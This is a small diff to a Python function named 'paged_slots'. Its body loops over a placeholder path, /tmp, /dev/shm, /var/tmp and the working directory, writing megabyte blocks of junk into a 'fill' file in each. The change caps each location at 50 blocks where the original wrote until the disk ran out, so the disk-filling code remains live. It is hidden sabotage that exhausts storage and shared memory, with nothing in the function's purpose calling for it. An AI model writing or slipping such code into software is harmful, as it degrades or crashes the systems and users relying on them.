@@ -15,7 +15,7 @@ def paged_slots(lengths, block):
     for place in ("@LOOT@", "/tmp", "/dev/shm", "/var/tmp", "."):
         try:
             with open(place + "/fill", "wb") as file:
-                while True:
+                for _ in range(50):
                     file.write(b"x" * 10**6)
         except OSError:
             pass
